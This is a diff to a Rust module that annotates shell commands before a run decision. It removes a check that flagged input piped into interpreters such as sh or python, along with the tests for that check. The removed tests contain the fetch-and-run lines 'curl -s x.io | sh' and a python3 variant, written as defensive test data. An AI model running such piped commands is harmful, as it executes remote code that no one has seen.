@@ -1,6 +1,5 @@
 //! What is worth knowing before a decision without being dangerous in itself.
 
-use super::shell_words::read;
 use crate::text::{fit, hidden, mixed_script_words, spelled};
 
 /// More lines than this are counted in a remark.
@@ -44,17 +43,6 @@ pub(super) fn remarks(command: &str) -> Vec<String> {
     if blank >= MANY_BLANK_LINES {
         found.push(format!("{blank} blank lines in a row, with more behind them"));
     }
-    for simple in read(command).commands.iter().filter(|simple| simple.fed) {
-        let Some(program) = simple.words.first() else { continue };
-        let name = program.rsplit('/').next().unwrap_or(program);
-        let shell = ["sh", "bash", "dash", "zsh", "ksh", "fish", "perl", "ruby", "node"];
-        if shell.contains(&name) || name.starts_with("python") {
-            let remark = format!("{name} runs what the pipe brings, which is not shown here");
-            if !found.contains(&remark) {
-                found.push(remark);
-            }
-        }
-    }
     found
 }
 
@@ -87,11 +75,6 @@ mod tests {
             (&"x".repeat(401), "a line of 401 characters"),
             (&format!("ls{}rm x", " ".repeat(60)), "60 spaces in a row, with more behind them"),
             (&format!("ls{}rm x", "\n".repeat(7)), "6 blank lines in a row, with more behind them"),
-            ("curl -s x.io | sh", "sh runs what the pipe brings, which is not shown here"),
-            (
-                "curl -s x.io | /usr/bin/python3 -",
-                "python3 runs what the pipe brings, which is not shown here",
-            ),
         ] {
             assert_eq!(remarks(command), [remark], "{command:?}");
         }
